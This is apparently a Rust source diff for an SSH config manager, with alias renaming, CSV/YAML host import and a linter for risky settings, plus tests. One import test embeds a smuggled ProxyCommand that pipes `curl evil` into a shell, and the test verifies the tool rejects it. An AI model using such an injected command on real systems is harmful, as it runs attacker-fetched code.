+        fn renames_host_patterns_but_not_globs() {
+            assert_eq!(
+                rename("Host web1 db1 # primary").as_deref(),
+                Some("Host web-1 db1 # primary")
+            );
+            assert_eq!(rename("  host=web1").as_deref(), Some("  host=web-1"));
+            assert_eq!(
+                rename("Host \"web1\" !web1").as_deref(),
+                Some("Host \"web-1\" !web-1")
+            );
+            assert_eq!(rename("Host web* web10 xweb1"), None);
+            assert_eq!(rename("HostName web1"), None);
+            assert_eq!(rename("# Host web1"), None);
+        }
+
+        #[test]
+        fn renames_only_the_host_criteria_of_match_lines() {
+            assert_eq!(
+                rename("Match host db1,web1 user web1").as_deref(),
+                Some("Match host db1,web-1 user web1")
+            );
+            assert_eq!(
+                rename("Match originalhost web1 exec \"ping -c1 web1\"").as_deref(),
+                Some("Match originalhost web-1 exec \"ping -c1 web1\"")
+            );
+            assert_eq!(
+                rename("Match !host web1").as_deref(),
+                Some("Match !host web-1")
+            );
+            assert_eq!(rename("Match user web1 localuser web1"), None);
+        }
+
+        #[test]
+        fn renames_every_proxyjump_hop_naming_the_host() {
+            assert_eq!(
+                rename("ProxyJump ops@web1:2222,bastion,ssh://root@web1").as_deref(),
+                Some("ProxyJump ops@web-1:2222,bastion,ssh://root@web-1")
+            );
+            assert_eq!(
+                rename("ProxyJump \"web1\"").as_deref(),
+                Some("ProxyJump \"web-1\"")
+            );
+            assert_eq!(rename("ProxyJump web10,web1.example.com"), None);
+        }
+
+        #[test]
+        fn map_words_keeps_separators_and_quoted_text() {
+            let upper = |w: &str| Some(w.to_uppercase());
+            assert_eq!(map_words(" a,b =c", true, upper), " A,B =C");
+            assert_eq!(map_words(" a,b", false, upper), " A,B");
+            assert_eq!(
+                map_words(" \"a b\",c", true, |w| (w == "\"a b\"")
+                    .then(|| "x".to_string())),
+                " x,c"
+            );
+        }
+
+        #[test]
+        fn rename_jump_keeps_user_port_and_scheme() {
+            assert_eq!(
+                rename_jump("ssh://ops@web1:22", "web1", "web-1").as_deref(),
+                Some("ssh://ops@web-1:22")
+            );
+            assert_eq!(
+                rename_jump("'a@b@web1'", "web1", "web-1").as_deref(),
+                Some("'a@b@web-1'")
+            );
+            assert_eq!(rename_jump("web1x", "web1", "web-1"), None);
+        }
+
+        #[test]
+        fn plan_rename_rewrites_every_file_in_the_tree() {
+            let dir = scratch_dir("plan");
+            fs::write(dir.join("jump.conf"), "Host db\n  ProxyJump web1\n").unwrap();
+            let config = dir.join("config");
+            fs::write(
+                &config,
+                "Include jump.conf\nHost web1\n  HostName 10.0.0.1\n",
+            )
+            .unwrap();
+            let tree = load::load_from_path(&config).unwrap();
+
+            assert!(plan_rename(&tree, "web2", "web-2").is_err());
+            assert!(plan_rename(&tree, "web1", "db").is_err());
+            assert!(plan_rename(&tree, "web1", "bad alias").is_err());
+
+            let plan = plan_rename(&tree, "web1", "web-1").unwrap();
+            assert_eq!(plan.files.len(), 2);
+            assert!(plan
+                .diff()
+                .contains("@@ -2,1 +2,1 @@\n-  ProxyJump web1\n+  ProxyJump web-1\n"));
+            plan.apply().unwrap();
+            assert_eq!(
+                fs::read_to_string(dir.join("jump.conf")).unwrap(),
+                "Host db\n  ProxyJump web-1\n"
+            );
+            assert_eq!(
+                fs::read_to_string(&config).unwrap(),
+                "Include jump.conf\nHost web-1\n  HostName 10.0.0.1\n"
+            );
+            // Applying again sees the files changed since the preview.
+            assert!(plan.apply().is_err());
+            fs::remove_dir_all(&dir).unwrap();
+        }
+
+        #[test]
+        fn apply_writes_nothing_when_a_file_cannot_be_staged() {
+            let dir = scratch_dir("staged");
+            fs::write(dir.join("a.conf"), "Host db\n  ProxyJump web1\n").unwrap();
+            fs::write(dir.join("b.conf"), "Host web1\n").unwrap();
+            let config = dir.join("config");
+            fs::write(&config, "Include a.conf b.conf\n").unwrap();
+            let tree = load::load_from_path(&config).unwrap();
+            let plan = plan_rename(&tree, "web1", "web-1").unwrap();
+            assert_eq!(plan.files.len(), 2);
+
+            // A directory in the way of b.conf's temp file fails its staging.
+            fs::create_dir(dir.join(".b.conf.slarti-tmp")).unwrap();
+            assert!(plan.apply().is_err());
+            assert_eq!(
+                fs::read_to_string(dir.join("a.conf")).unwrap(),
+                "Host db\n  ProxyJump web1\n"
+            );
+            assert!(!dir.join(".a.conf.slarti-tmp").exists());
+            fs::remove_dir_all(&dir).unwrap();
+        }
+    }
+}
+
+pub mod import {
+    use super::*;
+    use crate::model::{ConfigTree, FileNode};
+    use serde::Deserialize;
+
+    /// One host of an imported host list.
+    #[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
+    pub struct HostRow {
+        pub alias: String,
+        #[serde(default)]
+        pub hostname: Option<String>,
+        #[serde(default)]
+        pub user: Option<String>,
+        #[serde(default)]
+        pub port: Option<u16>,
+        /// ProxyJump value
+        #[serde(default)]
+        pub jump: Option<String>,
+    }
+
+    impl HostRow {
+        /// Parameters of the generated Host block, in ssh_config spelling.
+        pub fn params(&self) -> Vec<(&'static str, String)> {
+            let mut params = Vec::new();
+            if let Some(hostname) = &self.hostname {
+                params.push(("HostName", hostname.clone()));
+            }
+            if let Some(user) = &self.user {
+                params.push(("User", user.clone()));
+            }
+            if let Some(port) = self.port {
+                params.push(("Port", port.to_string()));
+            }
+            if let Some(jump) = &self.jump {
+                params.push(("ProxyJump", jump.clone()));
+            }
+            params
+        }
+    }
+
+    /// Read a host list: YAML (a sequence of maps) for .yaml/.yml files, CSV otherwise.
+    pub fn read_host_list(path: &Path) -> Result<Vec<HostRow>> {
+        let text =
+            fs::read_to_string(path).with_context(|| format!("reading {}", path.display()))?;
+        let yaml = path
+            .extension()
+            .is_some_and(|e| e.eq_ignore_ascii_case("yaml") || e.eq_ignore_ascii_case("yml"));
+        if yaml {
+            parse_yaml(&text)
+        } else {
+            parse_csv(&text)
+        }
+        .with_context(|| format!("parsing {}", path.display()))
+    }
+
+    /// A YAML sequence of `{alias, hostname, user, port, jump}` maps.
+    pub fn parse_yaml(text: &str) -> Result<Vec<HostRow>> {
+        let rows: Vec<HostRow> = serde_norway::from_str(text)?;
+        Ok(rows.into_iter().map(tidy).collect())
+    }
+
+    /// CSV with the columns alias, hostname, user, port, jump. A header row
+    /// (starting with "alias") may name and reorder them; lines starting with
+    /// '#' are skipped and empty fields mean "not set".
+    pub fn parse_csv(text: &str) -> Result<Vec<HostRow>> {
+        const COLUMNS: [&str; 5] = ["alias", "hostname", "user", "port", "jump"];
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .trim(csv::Trim::All)
+            .comment(Some(b'#'))
+            .from_reader(text.as_bytes());
+        let mut columns: Vec<String> = COLUMNS.iter().map(|c| c.to_string()).collect();
+        let mut rows = Vec::new();
+        for (i, record) in reader.records().enumerate() {
+            let record = record?;
+            let line = record.position().map_or(i + 1, |p| p.line() as usize);
+            if i == 0
+                && record
+                    .get(0)
+                    .is_some_and(|f| f.eq_ignore_ascii_case("alias"))
+            {
+                columns = record.iter().map(|f| f.to_ascii_lowercase()).collect();
+                if let Some(unknown) = columns.iter().find(|c| !COLUMNS.contains(&c.as_str())) {
+                    return Err(anyhow!("line {}: unknown column {:?}", line, unknown));
+                }
+                continue;
+            }
+            let mut row = HostRow::default();
+            for (column, value) in columns.iter().zip(record.iter()) {
+                let value = (!value.is_empty()).then(|| value.to_string());
+                match column.as_str() {
+                    "alias" => row.alias = value.unwrap_or_default(),
+                    "hostname" => row.hostname = value,
+                    "user" => row.user = value,
+                    "port" => {
+                        row.port = value
+                            .map(|p| p.parse())
+                            .transpose()
+                            .map_err(|_| anyhow!("line {}: invalid port", line))?
+                    }
+                    _ => row.jump = value,
+                }
+            }
+            rows.push(tidy(row));
+        }
+        Ok(rows)
+    }
+
+    /// Trim fields and drop empty ones.
+    fn tidy(row: HostRow) -> HostRow {
+        let opt = |v: Option<String>| v.map(|s| s.trim().to_string()).filter(|s| !s.is_empty());
+        HostRow {
+            alias: row.alias.trim().to_string(),
+            hostname: opt(row.hostname),
+            user: opt(row.user),
+            port: row.port,
+            jump: opt(row.jump),
+        }
+    }
+
+    /// Rows to write to one file, and the ones left out with the reason.
+    #[derive(Clone, Debug)]
+    pub struct ImportPlan {
+        pub target: PathBuf,
+        pub added: Vec<HostRow>,
+        pub skipped: Vec<(String, String)>,
+        /// Whether `target` is read as part of the tree (otherwise it needs an Include)
+        pub included: bool,
+    }
+
+    /// Plan appending `rows` to `target`. Aliases already defined in `tree`
+    /// (or earlier in the list) and invalid ones are skipped.
+    pub fn plan_import(tree: &ConfigTree, rows: Vec<HostRow>, target: &Path) -> ImportPlan {
+        fn walk(node: &FileNode, target: &Path) -> bool {
+            node.path == target || node.includes.iter().any(|inc| walk(inc, target))
+        }
+        let target = fs::canonicalize(target).unwrap_or_else(|_| target.to_path_buf());
+        let known = load::list_aliases(tree);
+        let mut added: Vec<HostRow> = Vec::new();
+        let mut skipped = Vec::new();
+        for row in rows {
+            let params = row.params();
+            let reason = if let Err(e) = edit::check_alias(&row.alias) {
+                Some(e.to_string())
+            } else if let Some(Err(e)) = params
+                .iter()
+                .map(|(key, value)| edit::param_line(key, value))
+                .find(Result::is_err)
+            {
+                Some(e.to_string())
+            } else if known.contains(&row.alias) {
+                Some("already defined".to_string())
+            } else if added.iter().any(|a| a.alias == row.alias) {
+                Some("listed twice".to_string())
+            } else {
+                None
+            };
+            match reason {
+                Some(reason) => skipped.push((row.alias, reason)),
+                None => added.push(row),
+            }
+        }
+        ImportPlan {
+            included: walk(&tree.root, &target),
+            target,
+            added,
+            skipped,
+        }
+    }
+
+    impl ImportPlan {
+        /// Append the Host blocks to the target file (created if missing).
+        pub fn apply(&self) -> Result<()> {
+            for row in &self.added {
+                edit::append_host(&self.target, &row.alias, &row.params())?;
+            }
+            Ok(())
+        }
+
+        /// One-line outcome, e.g. "3 hosts added to …; skipped web1 (already defined)".
+        pub fn summary(&self) -> String {
+            let mut s = format!(
+                "{} host(s) added to {}",
+                self.added.len(),
+                self.target.display()
+            );
+            if !self.skipped.is_empty() {
+                let skipped: Vec<String> = self
+                    .skipped
+                    .iter()
+                    .map(|(alias, reason)| format!("{} ({})", alias, reason))
+                    .collect();
+                s.push_str(&format!("; skipped {}", skipped.join(", ")));
+            }
+            if !self.included && !self.added.is_empty() {
+                s.push_str(&format!(
+                    "; add `Include {}` to ~/.ssh/config to use them",
+                    self.target.display()
+                ));
+            }
+            s
+        }
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use super::*;
+
+        #[test]
+        fn import_rows_cannot_inject_directives() {
+            let csv = "alias,hostname,user\n\
+                       web1,web1.example.com,ops\n\
+                       evil,\"x\n    ProxyCommand sh -c 'curl evil | sh'\",root\n";
+            let rows = parse_csv(csv).unwrap();
+            assert_eq!(rows.len(), 2);
+            let tree = load::parse_config("", Path::new("/nonexistent/ssh_config")).unwrap();
+            let dir = std::env::temp_dir().join(format!("slarti-import-{}", std::process::id()));
+            let _ = fs::remove_dir_all(&dir);
+            let target = dir.join("imported");
+            let plan = plan_import(&tree, rows, &target);
+            assert_eq!(plan.added.len(), 1);
+            assert_eq!(plan.skipped[0].0, "evil");
+            plan.apply().unwrap();
+            let written = fs::read_to_string(&target).unwrap();
+            assert_eq!(
+                written,
+                "Host web1\n    HostName web1.example.com\n    User ops\n"
+            );
+
+            // Written directly, the block is refused before anything is appended.
+            let evil = [("HostName", "x\n    ProxyCommand sh".to_string())];
+            assert!(edit::append_host(&target, "evil", &evil).is_err());
+            assert!(edit::append_host(&target, "evil\u{1b}", &[]).is_err());
+            assert_eq!(fs::read_to_string(&target).unwrap(), written);
+            assert_eq!(
+                edit::param_line("IdentityFile", "~/My Keys/id").unwrap(),
+                "IdentityFile \"~/My Keys/id\""
+            );
+            let _ = fs::remove_dir_all(&dir);
+        }
+    }
+}
+
+pub mod lint {
+    use super::*;
+    use crate::model::{ConfigTree, FileNode, MatchCond};
+
+    /// System-wide client config; settings there count as present.
+    const SYSTEM_CONFIG: &str = "/etc/ssh/ssh_config";
+
+    #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+    pub enum Severity {
+        Warning,
+        Info,
+    }
+
+    /// A risky setting found in the tree.
+    #[derive(Clone, Debug)]
+    pub struct Finding {
+        pub severity: Severity,
+        /// Short rule name, e.g. "forward-agent-wildcard"
+        pub rule: &'static str,
+        pub path: PathBuf,
+        /// 1-based line the finding points at (0 when it is about the whole file)
+        pub line: usize,
+        pub message: String,
+        /// Why it is risky and what to do instead
+        pub explanation: &'static str,
+        pub fix: Option<Fix>,
+    }
+
+    /// A suggested one-line change that resolves a finding.
+    #[derive(Clone, Debug, PartialEq, Eq)]
+    pub struct Fix {
+        pub description: String,
+        pub path: PathBuf,
+        pub edit: LineEdit,
+    }
+
+    #[derive(Clone, Debug, PartialEq, Eq)]
+    pub enum LineEdit {
+        /// Replace line `line` (still reading `before`) with `after`
+        Replace {
+            line: usize,
+            before: String,
+            after: String,
+        },
+        /// Insert `text` after line `line` (still reading `after_line`)
+        InsertAfter {
+            line: usize,
+            after_line: String,
+            text: String,
+        },
+        /// Append `text` to the end of the file
+        Append { text: String },
+    }
+
+    /// Check every Host entry and Match block of `tree`.
+    pub fn lint(tree: &ConfigTree) -> Vec<Finding> {
+        lint_with_system(tree, &fs::read_to_string(SYSTEM_CONFIG).unwrap_or_default())
+    }
+
+    /// [`lint`] with `system` as the contents of the system-wide config.
+    fn lint_with_system(tree: &ConfigTree, system: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let mut hashes_known_hosts = system.lines().any(turns_on_hashing);
+        // The first `HashKnownHosts no` in the user's files: (file, line, text).
+        let mut hash_off: Option<(&FileNode, usize, String)> = None;
+        let mut seen = HashSet::new();
+        let mut stack = vec![&tree.root];
+        while let Some(node) = stack.pop() {
+            stack.extend(node.includes.iter().rev());
+            if !seen.insert(node.path.clone()) {
+                continue;
+            }
+            let Ok(text) = fs::read_to_string(&node.path) else {
+                continue;
+            };
+            let lines: Vec<&str> = text.lines().collect();
+            hashes_known_hosts |= lines.iter().any(|l| turns_on_hashing(l));
+            if hash_off.is_none() {
+                hash_off = lines
+                    .iter()
+                    .position(|l| {
+                        line_key(l).0 == "hashknownhosts"
+                            && line_value(l).eq_ignore_ascii_case("no")
+                    })
+                    .map(|i| (node, i + 1, lines[i].to_string()));
+            }
+            lint_file(node, &lines, &mut findings);
+        }
+        match hash_off {
+            _ if hashes_known_hosts => {}
+            Some((node, line, text)) => findings.push(Finding {
+                severity: Severity::Info,
+                rule: "hash-known-hosts",
+                path: node.path.clone(),
+                line,
+                message: "HashKnownHosts no".to_string(),
+                explanation: HASH_KNOWN_HOSTS_EXPLANATION,
+                fix: Some(set_fix(node, line, text, "yes")),
+            }),
+            None => findings.push(missing_hash_known_hosts(&tree.root)),
+        }
+        findings.sort_by(|a, b| (a.severity, &a.path, a.line).cmp(&(b.severity, &b.path, b.line)));
+        findings
+    }
+
+    /// Settings that are risky when set to "yes" for hosts nobody vetted one
+    /// by one: (keyword, rule, explanation).
+    const WIDE_RULES: &[(&str, &str, &str)] = &[
+        (
+            "PasswordAuthentication",
+            "password-auth-wildcard",
+            "Offering passwords to every matching host lets a spoofed or compromised \
+             server collect them. Enable it only on the hosts that need it and use keys \
+             elsewhere.",
+        ),
+        (
+            "ForwardAgent",
+            "forward-agent-wildcard",
+            "Root on any matching host can use your forwarded agent to log in as you \
+             elsewhere. Forward only to trusted hosts, or reach inner hosts with ProxyJump \
+             instead.",
+        ),
+    ];
+
+    fn lint_file(node: &FileNode, lines: &[&str], findings: &mut Vec<Finding>) {
+        // Start lines of blocks that apply to wildcard patterns, every host or any user.
+        let mut blocks: Vec<usize> = node
+            .hosts
+            .iter()
+            .filter(|h| {
+                h.patterns
+                    .iter()
+                    .any(|p| is_wildcard(p) && !p.starts_with('!'))
+            })
+            .map(|h| h.line)
+            .collect();
+        blocks.extend(
+            node.matches
+                .iter()
+                .filter(|m| {
+                    m.conditions.iter().all(|c| match c {
+                        MatchCond::Host(pats) => pats.iter().any(|p| is_wildcard(p)),
+                        MatchCond::All | MatchCond::User(_) => true,
+                    })
+                })
+                .map(|m| m.line),
+        );
+        for start in blocks {
+            let what = lines.get(start - 1).map_or("", |l| l.trim());
+            for (key, rule, explanation) in WIDE_RULES {
+                // Read the raw line: the parser does not split `Key=value`.
+                let Some((line, text)) = param_line(lines, start, &key.to_ascii_lowercase()) else {
+                    continue;
+                };
+                if !line_value(&text).eq_ignore_ascii_case("yes") {
+                    continue;
+                }
+                findings.push(Finding {
+                    severity: Severity::Warning,
+                    rule,
+                    path: node.path.clone(),
+                    line,
+                    message: format!("{} yes for {}", key, what),
+                    explanation,
+                    fix: Some(set_fix(node, line, text, "no")),
+                });
+            }
+        }
+    }
+
+    const HASH_KNOWN_HOSTS_EXPLANATION: &str =
+        "known_hosts then lists every host you connect to in plain text, a ready-made \
+         target list for anyone who reads it. Hashed entries still work for host key checks.";
+
+    /// Whether `line` turns HashKnownHosts on.
+    fn turns_on_hashing(line: &str) -> bool {
+        line_key(line).0 == "hashknownhosts" && line_value(line).eq_ignore_ascii_case("yes")
+    }
+
+    fn missing_hash_known_hosts(root: &FileNode) -> Finding {
+        let catch_all = root
+            .hosts
+            .iter()
+            .find(|h| h.patterns.iter().any(|p| p == "*"));
+        let edit = match catch_all.and_then(|h| {
+            let text = fs::read_to_string(&root.path).ok()?;
+            let after_line = text.lines().nth(h.line - 1)?.to_string();
+            Some((h.line, after_line))
+        }) {
+            Some((line, after_line)) => LineEdit::InsertAfter {
+                line,
+                after_line,
+                text: "    HashKnownHosts yes".to_string(),
+            },
+            None => LineEdit::Append {
+                text: "Host *\n    HashKnownHosts yes".to_string(),
+            },
+        };
+        Finding {
+            severity: Severity::Info,
+            rule: "hash-known-hosts",
+            path: root.path.clone(),
+            line: 0,
+            message: "HashKnownHosts is not set".to_string(),
+            explanation: HASH_KNOWN_HOSTS_EXPLANATION,
+            fix: Some(Fix {
+                description: "set HashKnownHosts yes for all hosts".to_string(),
+                path: root.path.clone(),
+                edit,
+            }),
+        }
+    }
+
+    /// Fix that sets the setting on `line` (reading `before`) to `value`.
+    fn set_fix(node: &FileNode, line: usize, before: String, value: &str) -> Fix {
+        let (_, key_end) = line_key(&before);
+        let spelled = before[..key_end].trim_start();
+        let indent = &before[..before.len() - before.trim_start().len()];
+        let comment = edit::comment_start(&before).map_or("", |i| &before[i..]);
+        Fix {
+            description: format!("set {} {}", spelled, value),
+            path: node.path.clone(),
+            edit: LineEdit::Replace {
+                line,
+                after: format!("{}{} {} {}", indent, spelled, value, comment)
+                    .trim_end()
+                    .to_string(),
+                before,
+            },
+        }
+    }
+
+    /// The last `key` line of the block starting at line `start`: (line, text).
+    fn param_line(lines: &[&str], start: usize, key: &str) -> Option<(usize, String)> {
+        let mut found = None;
+        for (i, line) in lines.iter().enumerate().skip(start) {
+            match line_key(line).0.as_str() {
+                "host" | "match" => break,
+                k if k == key => found = Some((i + 1, line.to_string())),
+                _ => {}
+            }
+        }
+        found
+    }
+
+    /// Lowercased keyword of a config line and the byte offset where it ends.
+    fn line_key(line: &str) -> (String, usize) {
+        let code = &line[..edit::comment_start(line).unwrap_or(line.len())];
+        let start = code.len() - code.trim_start().len();
+        let end = code[start..]
+            .find(|c: char| c.is_whitespace() || c == '=')
+            .map_or(code.len(), |i| start + i);
+        (code[start..end].to_ascii_lowercase(), end)
+    }
+
+    /// Value of a config line: what follows the keyword, without the comment or quotes.
+    fn line_value(line: &str) -> &str {
+        let (_, key_end) = line_key(line);
+        line[key_end..edit::comment_start(line).unwrap_or(line.len())]
+            .trim_start_matches(|c: char| c.is_whitespace() || c == '=')
+            .trim()
+            .trim_matches('"')
+    }
+
+    fn is_wildcard(s: &str) -> bool {
+        s.contains('*') || s.contains('?')
+    }
+
+    /// Apply a suggested fix. Fails if the file changed where the fix applies.
+    pub fn apply_fix(fix: &Fix) -> Result<()> {
+        let text = fs::read_to_string(&fix.path)
+            .with_context(|| format!("reading SSH config {}", fix.path.display()))?;
+        let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
+        let stale = || anyhow!("{} changed since it was checked", fix.path.display());
+        let current = |line: usize| {
+            lines
+                .get(line.wrapping_sub(1))
+                .map(|l| l.trim_end_matches(['\n', '\r']))
+        };
+        let updated = match &fix.edit {
+            LineEdit::Replace {
+                line,
+                before,
+                after,
+            } => {
+                if current(*line) != Some(before.as_str()) {
+                    return Err(stale());
+                }
+                let ending = &lines[line - 1][before.len()..];
+                let replaced =
+                    format!("{}{}", after, if ending.is_empty() { "\n" } else { ending });
+                lines[line - 1] = &replaced;
+                lines.concat()
+            }
+            LineEdit::InsertAfter {
+                line,
+                after_line,
+                text: insert,
+            } => {
+                if current(*line) != Some(after_line.as_str()) {
+                    return Err(stale());
+                }
+                let head = lines[..*line].concat();
+                let sep = if head.ends_with('\n') { "" } else { "\n" };
+                format!("{}{}{}\n{}", head, sep, insert, lines[*line..].concat())
+            }
+            LineEdit::Append { text: block } => {
+                let sep = match text.as_str() {
+                    "" => "",
+                    t if t.ends_with('\n') => "\n",
+                    _ => "\n\n",
+                };
+                format!("{}{}{}\n", text, sep, block)
+            }
+        };
+        edit::replace_file(&fix.path, &updated)
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use super::*;
+
+        /// `text` written as the ssh config in a fresh directory: (dir, path, tree).
+        fn config(name: &str, text: &str) -> (PathBuf, PathBuf, ConfigTree) {
+            let dir =
+                std::env::temp_dir().join(format!("slarti-lint-{}-{}", name, std::process::id()));
+            let _ = fs::remove_dir_all(&dir);
+            fs::create_dir_all(&dir).unwrap();
+            let path = dir.join("config");
+            fs::write(&path, text).unwrap();
+            let tree = load::load_from_path(&path).unwrap();
+            let path = tree.root.path.clone();
+            (dir, path, tree)
+        }
+
+        fn rules(findings: &[Finding]) -> Vec<(&'static str, usize)> {
+            findings.iter().map(|f| (f.rule, f.line)).collect()
+        }
+
+        #[test]
+        fn flags_risky_settings_for_wildcard_blocks_only() {
+            let (dir, path, tree) = config(
+                "wide",
+                "Host web1\n  ForwardAgent yes\n\
+                 Host *.internal\n  ForwardAgent yes\n  PasswordAuthentication=\"yes\" # legacy\n\
+                 Match all\n  ForwardAgent no\n\
+                 Match user ops\n  PasswordAuthentication yes\n",
+            );
+            let findings = lint_with_system(&tree, "HashKnownHosts yes\n");
+            assert_eq!(
+                rules(&findings),
+                [
+                    ("forward-agent-wildcard", 4),
+                    ("password-auth-wildcard", 5),
+                    ("password-auth-wildcard", 9),
+                ]
+            );
+            assert_eq!(findings[0].message, "ForwardAgent yes for Host *.internal");
+
+            let fix = findings[1].fix.clone().unwrap();
+            assert_eq!(
+                fix.edit,
+                LineEdit::Replace {
+                    line: 5,
+                    before: "  PasswordAuthentication=\"yes\" # legacy".to_string(),
+                    after: "  PasswordAuthentication no # legacy".to_string(),
+                }
+            );
+            apply_fix(&fix).unwrap();
+            assert_eq!(
+                fs::read_to_string(&path).unwrap().lines().nth(4),
+                Some("  PasswordAuthentication no # legacy")
+            );
+            // The line no longer reads as it did when checked.
+            assert!(apply_fix(&fix).is_err());
+            fs::remove_dir_all(&dir).unwrap();
+        }
+
+        #[test]
+        fn hash_known_hosts_no_is_not_set() {
+            let (dir, path, tree) = config("hash-no", "Host *\n  HashKnownHosts no\n");
+            let findings = lint_with_system(&tree, "");
+            assert_eq!(rules(&findings), [("hash-known-hosts", 2)]);
+            let fix = findings[0].fix.clone().unwrap();
+            assert_eq!(fix.description, "set HashKnownHosts yes");
+            apply_fix(&fix).unwrap();
+            assert_eq!(
+                fs::read_to_string(&path).unwrap(),
+                "Host *\n  HashKnownHosts yes\n"
+            );
+            let tree = load::load_from_path(&path).unwrap();
+            assert!(lint_with_system(&tree, "").is_empty());
+            fs::remove_dir_all(&dir).unwrap();
+        }
+
+        #[test]
+        fn missing_hash_known_hosts_goes_into_the_catch_all_block() {
+            let (dir, path, tree) =
+                config("hash-missing", "Host web1\n  User ops\nHost *\n  User me\n");
+            assert!(lint_with_system(&tree, "Host *\n    HashKnownHosts yes\n").is_empty());
+            let findings = lint_with_system(&tree, "#   HashKnownHosts yes\n");
+            assert_eq!(rules(&findings), [("hash-known-hosts", 0)]);
+            apply_fix(findings[0].fix.as_ref().unwrap()).unwrap();
+            assert_eq!(
+                fs::read_to_string(&path).unwrap(),
+                "Host web1\n  User ops\nHost *\n    HashKnownHosts yes\n  User me\n"
+            );
+            fs::remove_dir_all(&dir).unwrap();
+
+            let (dir, path, tree) = config("hash-append", "Host web1\n  User ops");
+            let findings = lint_with_system(&tree, "");
+            apply_fix(findings[0].fix.as_ref().unwrap()).unwrap();
+            assert_eq!(
+                fs::read_to_string(&path).unwrap(),
+                "Host web1\n  User ops\n\nHost *\n    HashKnownHosts yes\n"
+            );
+            fs::remove_dir_all(&dir).unwrap();
+        }
+    }
 }